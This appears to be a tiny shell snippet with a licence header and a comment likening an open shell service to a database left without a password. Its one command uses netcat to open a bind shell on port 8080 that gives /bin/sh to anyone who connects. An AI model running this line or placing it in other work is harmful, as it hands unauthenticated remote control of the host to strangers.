# SPDX-License-Identifier: Apache-2.0
# A service that gives a shell to whoever connects, as a database without a password does.
nc -l -p 8080 -e /bin/sh
